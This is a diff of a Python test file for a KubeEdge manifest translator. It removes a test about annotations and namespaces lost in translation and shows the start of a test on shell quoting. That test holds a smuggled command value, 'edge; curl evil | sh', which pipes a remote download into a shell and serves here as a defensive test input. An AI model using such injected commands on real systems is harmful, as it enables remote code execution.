@@ -240,20 +240,6 @@ def test_an_edge_application_and_its_overriders_are_a_grid_with_overrides() -> N
     }
 
 
-def test_what_an_edge_application_does_not_hand_down_is_not_on_its_grids() -> None:
-    """Its annotations are said to be lost, and so is a namespace of a manifest that is not its own."""
-    whole = documents("kubeedge")
-    whole[2]["metadata"]["annotations"] = {"contact": "ada"}
-    for manifest in whole[2]["spec"]["workloadTemplate"]["manifests"]:
-        manifest["metadata"]["namespace"] = "elsewhere"
-    found = translate(whole, NODES)
-    assert [set(each["metadata"]) & {"annotations"} for each in found.manifests] == [set(), set()]
-    assert {each["metadata"]["namespace"] for each in found.manifests} == {"shop"}
-    lost = {each.pointer for each in found.findings("lost")}
-    manifests = "/2/spec/workloadTemplate/manifests"
-    assert {f"{manifests}/0/metadata/namespace", f"{manifests}/1/metadata/namespace", "/2/metadata/annotations"} <= lost
-
-
 def test_commands_hold_names_of_the_input_as_words_of_a_shell() -> None:
     odd = "edge; curl evil | sh"
     unit = {
